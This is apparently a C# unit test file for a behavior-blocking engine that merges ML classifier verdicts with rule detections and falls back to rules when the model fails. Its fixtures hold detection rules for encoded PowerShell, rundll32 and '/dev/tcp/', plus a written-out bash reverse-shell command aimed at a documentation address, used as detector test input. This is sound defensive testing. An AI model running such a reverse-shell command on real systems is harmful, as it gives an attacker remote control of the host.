using System;
using System.Collections.Generic;
using System.Linq;
using BehaviorBlocking.Classification;
using BehaviorBlocking.Detections;
using BehaviorBlocking.Events;
using BehaviorBlocking.Features;
using BehaviorBlocking.Pipeline;
using BehaviorBlocking.Rules;
using BehaviorBlocking.Verdicts;
using BehaviorBlocking.Tests.Rules;

namespace BehaviorBlocking.Tests.Classification
{
    public sealed class ModelVerdictTests : IDisposable
    {
        private readonly RuleTestKit _kit = new RuleTestKit();

        public void Dispose() => _kit.Dispose();

        /// <summary>A classifier that answers fixed probabilities (or fails), to test the verdict logic alone.</summary>
        private sealed class FixedClassifier : ITreeClassifier
        {
            private readonly float[] _answer;
            private readonly bool _fail;

            public FixedClassifier(float[] answer, bool fail = false)
            {
                _answer = answer;
                _fail = fail;
            }

            public string Version => "test-1";

            public IReadOnlyList<string> Classes { get; } = new[] { "Benign", "Execution", "Generic" };

            public int FeatureSchemaVersion => FeatureSchema.Version;

            public IReadOnlyList<float> BenignMedians { get; } = new float[FeatureSchema.Count];

            public List<float[]> Seen { get; } = new List<float[]>();

            public string? DependsOn { get; init; }

            /// <summary>Thrown by a call when it returns non-null (given the 1-based call number).</summary>
            public Func<int, Exception?>? Failure { get; init; }

            public int Calls { get; private set; }

            public void Predict(float[] features, float[] probabilities)
            {
                Calls++;
                if (_fail)
                {
                    throw new BehaviorBlockingException("ModelInvalid", FailureKind.InvalidData, "model broke");
                }

                if (Failure?.Invoke(Calls) is Exception failure)
                {
                    throw failure;
                }

                Seen.Add((float[])features.Clone());
                Array.Copy(_answer, probabilities, _answer.Length);
                if (DependsOn is string feature && features[FeatureSchema.IndexOf(feature)] == 0)
                {
                    // Without the feature the stub is unsure: an attribution must find it.
                    probabilities[0] = 0.6f;
                    probabilities[1] = 0.3f;
                    probabilities[2] = 0.1f;
                }
            }
        }

        private (List<Detection> Detections, VerdictEngine Detector) Run(ITreeClassifier classifier, params BehaviorEvent[] events) =>
            Run(classifier, new ClassifierPolicy(), events);

        private (List<Detection> Detections, VerdictEngine Detector) Run(ITreeClassifier classifier, ClassifierPolicy policy, params BehaviorEvent[] events)
        {
            RuleSet rules = _kit
                .Write("enc.yml", RuleTestKit.Rule("enc", "category: process_creation", "  sel:\n    CommandLine|contains: ' -enc '\n  condition: sel", "medium", "attack.execution", "EncodedPs"))
                .Write("dll.yml", RuleTestKit.Rule("dll", "category: process_creation", "  sel:\n    Image|endswith: '\\rundll32.exe'\n  condition: sel", "medium", "attack.defense_evasion", "Rundll"))
                .Write("tcp.yml", RuleTestKit.Rule("tcp", "category: process_creation", "  sel:\n    CommandLine|contains: '/dev/tcp/'\n  condition: sel", "medium", "attack.execution", "DevTcpShell")
                    .Replace("product: windows", "product: linux"))
                .Load();
            var collector = new TreeFeatureCollector();
            var verdicts = new VerdictEngine(new VerdictOptions { Classifier = classifier, Features = collector, ClassifierPolicy = policy });
            var detections = new List<Detection>();
            var pipeline = new BehaviorPipeline(new IDetector[] { collector, new RuleDetector(rules) }, verdicts, detections.Add);
            foreach (BehaviorEvent e in events)
            {
                pipeline.Process(e);
            }

            pipeline.EndRecording();
            return (detections, verdicts);
        }

        private BehaviorEvent EncodedPs() => _kit.ProcessStart(1, 200, @"C:\x\powershell.exe", "powershell -enc AAAA", parentPid: 10, parentImage: @"C:\Windows\explorer.exe");

        [Fact]
        public void Verdict_ModelConfidentInTheTactic_IsNamedMlWithModelEvidence()
        {
            var classifier = new FixedClassifier(new[] { 0.05f, 0.9f, 0.05f }) { DependsOn = "cmd_encoded" };

            var (detections, detector) = Run(classifier, EncodedPs());

            Detection d = Assert.Single(detections);
            Assert.Equal("Behavior:Win32/Execution.EncodedPs!ml", d.Name);
            Assert.Equal(0.9, d.Score, 3);
            Assert.Equal(Severity.Critical, d.Severity);
            Assert.Equal("test-1", d.ModelVersion);
            Assert.Contains(d.Evidence, e => e.Kind == "model" && e.Description.Contains("Execution 0.900"));
            Evidence feature = Assert.Single(d.Evidence, e => e.Kind == "feature");
            Assert.Equal("cmd_encoded", feature.Id);
            Assert.Contains("falls by 0.600", feature.Description);
            Assert.Contains(d.Evidence, e => e.Kind == "rule" && e.Id == "enc");
            Assert.Equal(1, classifier.Seen[0][FeatureSchema.IndexOf("cmd_encoded")]);
            Assert.Equal((1, 1, 0), (detector.ClassifierHealth.Scored, detector.ClassifierHealth.Decided, detector.ClassifierHealth.Failures));
        }

        [Fact]
        public void Verdict_ModelUnsure_RuleVerdictStands()
        {
            var (detections, detector) = Run(new FixedClassifier(new[] { 0.7f, 0.2f, 0.1f }), EncodedPs());

            Detection d = Assert.Single(detections);
            Assert.Equal("Behavior:Win32/Execution.EncodedPs!rule", d.Name);
            Assert.Equal(0.5, d.Score, 3);
            Assert.Null(d.ModelVersion);
            Assert.Equal(0, detector.ClassifierHealth.Decided);
        }

        [Fact]
        public void Verdict_TacticTheModelDoesNotKnow_UsesGeneric()
        {
            var (detections, _) = Run(new FixedClassifier(new[] { 0.1f, 0.1f, 0.8f }),
                _kit.ProcessStart(1, 300, @"C:\Windows\System32\rundll32.exe", "rundll32 x.dll,Go", parentPid: 10, parentImage: @"C:\Windows\explorer.exe"));

            Assert.Equal("Behavior:Win32/DefenseEvasion.Rundll!ml", Assert.Single(detections).Name);
        }

        [Fact]
        public void Verdict_ModelFails_RulesKeepProtectingAndTheFailureIsCounted()
        {
            var (detections, detector) = Run(new FixedClassifier(Array.Empty<float>(), fail: true), EncodedPs());

            Assert.Equal("Behavior:Win32/Execution.EncodedPs!rule", Assert.Single(detections).Name);
            Assert.Equal(1, detector.ClassifierHealth.Failures);
            Assert.Equal("ModelInvalid: model broke", detector.ClassifierHealth.FirstError);
        }

        /// <summary>Encoded PowerShell in <paramref name="count"/> trees of their own (each verdict asks the model).</summary>
        private BehaviorEvent[] EncodedPsTrees(int count) => Enumerable.Range(0, count)
            .Select(i => _kit.ProcessStart(1 + i, 200 + i, @"C:\x\powershell.exe", "powershell -enc AAAA", parentPid: 1000 + i, parentImage: @"C:\Windows\explorer.exe"))
            .ToArray();

        [Theory]
        [InlineData(float.NaN, "NaN")]
        [InlineData(5f, "5")]
        [InlineData(-0.5f, "-0.5")]
        [InlineData(float.PositiveInfinity, "Infinity")]
        public void Verdict_ModelOutputNotAProbability_FallsBackToRulesAndIsCounted(float value, string shown)
        {
            var (detections, detector) = Run(new FixedClassifier(new[] { 0.05f, value, 0.05f }), EncodedPs());

            Detection d = Assert.Single(detections);
            Assert.Equal("Behavior:Win32/Execution.EncodedPs!rule", d.Name);
            Assert.Equal(0.5, d.Score, 3);
            Assert.Null(d.ModelVersion);
            ClassifierHealth health = detector.ClassifierHealth;
            Assert.Equal((0, 0, 1), (health.Scored, health.Decided, health.Failures));
            Assert.Equal($"ModelInvalid: the model test-1 gave an output that is not a probability: it gave class 'Execution' the probability {shown}; a probability is a finite number from 0 to 1", health.FirstError);
            Assert.False(health.Disabled);
        }

        [Fact]
        public void Verdict_ProbabilityAboveOneByRoundingOnly_IsClampedAndDecides()
        {
            var (detections, detector) = Run(new FixedClassifier(new[] { 0f, 1.00005f, 0f }), EncodedPs());

            Detection d = Assert.Single(detections);
            Assert.Equal("Behavior:Win32/Execution.EncodedPs!ml", d.Name);
            Assert.Equal(1.0, d.Score);
            Assert.Equal(0, detector.ClassifierHealth.Failures);
        }

        [Fact]
        public void Verdict_ModelThrowsWhatItLikes_IsCountedAndTheRulesDecide()
        {
            var classifier = new FixedClassifier(new[] { 0.05f, 0.9f, 0.05f }) { Failure = _ => new InvalidOperationException("session gone") };

            var (detections, detector) = Run(classifier, EncodedPs());

            Assert.Equal("Behavior:Win32/Execution.EncodedPs!rule", Assert.Single(detections).Name);
            Assert.Equal("ModelInvalid: the model test-1 failed: InvalidOperationException: session gone", detector.ClassifierHealth.FirstError);
        }

        [Fact]
        public void Verdict_ModelFailsAgainAndAgain_IsSwitchedOffAfterTheLimitAndSaysSo()
        {
            var classifier = new FixedClassifier(new[] { 0.05f, float.NaN, 0.05f });

            var (detections, detector) = Run(classifier, EncodedPsTrees(8));

            Assert.Equal(8, detections.Select(d => d.Id).Distinct().Count());
            Assert.All(detections, d => Assert.EndsWith("!rule", d.Name));
            Assert.Equal(ClassifierGuard.DefaultFailureLimit, classifier.Calls);
            ClassifierHealth health = detector.ClassifierHealth;
            Assert.Equal(ClassifierGuard.DefaultFailureLimit, health.Failures);
            Assert.True(health.Disabled);
            Assert.StartsWith("ModelDisabled: the model test-1 failed 5 times in a row and is switched off for the rest of this run; verdicts are decided by rules alone (!rule).", health.DisabledReason);
            Assert.Contains("probability NaN", health.DisabledReason);
        }

        [Fact]
        public void Verdict_FailuresBetweenGoodAnswers_NeverSwitchTheModelOff()
        {
            var classifier = new FixedClassifier(new[] { 0.05f, 0.9f, 0.05f }) { Failure = call => call % 2 == 1 ? new InvalidOperationException("flaky") : null };

            var (detections, detector) = Run(classifier, EncodedPsTrees(8));

            Assert.False(detector.ClassifierHealth.Disabled);
            Assert.True(detector.ClassifierHealth.Failures >= ClassifierGuard.DefaultFailureLimit, "failures: " + detector.ClassifierHealth.Failures);
            Assert.Contains(detections, d => d.Name.EndsWith("!ml", StringComparison.Ordinal));
        }

        [Fact]
        public void Verdict_ThresholdNotANumber_TheModelNeverDecides()
        {
            var policy = new ClassifierPolicy { DefaultThreshold = double.NaN };

            var (detections, detector) = Run(new FixedClassifier(new[] { 0.05f, 0.9f, 0.05f }), policy, EncodedPs());

            Assert.Equal("Behavior:Win32/Execution.EncodedPs!rule", Assert.Single(detections).Name);
            Assert.Equal(0, detector.ClassifierHealth.Decided);
        }

        private BehaviorEvent LinuxDevTcpShell() => _kit.Event(BehaviorBlocking.Sensors.Linux.LinuxEvents.Channel, 1, 1,
            ("ProcessGuid", "{6f1c2a3b-0000-0000-0000-000000000200}"), ("ProcessId", "200"), ("Image", "/usr/bin/bash"),
            ("CommandLine", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), ("User", "alice"), ("ParentProcessGuid", "{6f1c2a3b-0000-0000-0000-000000000010}"),
            ("ParentProcessId", "10"), ("ParentImage", "/usr/sbin/sshd"), ("ParentCommandLine", "sshd: alice"));

        [Fact]
        public void Verdict_LinuxTree_TheWindowsTrainedModelIsNotConsultedAndTheRulesDecide()
        {
            var classifier = new FixedClassifier(new[] { 0.05f, 0.9f, 0.05f });

            var (detections, detector) = Run(classifier, LinuxDevTcpShell(), EncodedPs());

            Assert.Equal(new[] { "Behavior:Linux/Execution.DevTcpShell!rule", "Behavior:Win32/Execution.EncodedPs!ml" },
                detections.Select(d => d.Name).Distinct().OrderBy(n => n, StringComparer.Ordinal));
            Detection linux = detections.Last(d => d.Platform == DetectionPlatform.Linux);
            Assert.Null(linux.ModelVersion);
            Assert.Equal(0.5, linux.Score, 3);
            Assert.DoesNotContain(linux.Evidence, e => e.Kind == "model" || e.Kind == "feature");
            // Scored once: the Windows tree; the Linux tree never reached the model.
            Assert.Equal((1, 1), (detector.ClassifierHealth.Scored, detector.ClassifierHealth.Decided));
        }

        [Fact]
        public void Verdict_LinuxTree_ScoredWhenThePolicyNamesLinux()
        {
            var policy = new ClassifierPolicy { Platforms = new[] { DetectionPlatform.Win32, DetectionPlatform.Linux } };

            var (detections, detector) = Run(new FixedClassifier(new[] { 0.05f, 0.9f, 0.05f }), policy, LinuxDevTcpShell());

            Assert.Equal("Behavior:Linux/Execution.DevTcpShell!ml", detections.Last().Name);
            Assert.Equal(1, detector.ClassifierHealth.Decided);
        }

        [Fact]
        public void ClassifierPolicy_ByDefault_ScoresWindowsTreesOnly()
        {
            var policy = new ClassifierPolicy();

            Assert.True(policy.Scores(DetectionPlatform.Win32));
            Assert.False(policy.Scores(DetectionPlatform.Linux));
        }

        [Fact]
        public void Options_ClassifierWithoutFeatures_IsRefused()
        {
            Assert.Throws<ArgumentException>(() => new VerdictEngine(new VerdictOptions { Classifier = new FixedClassifier(new float[3]) }));
        }
    }
}
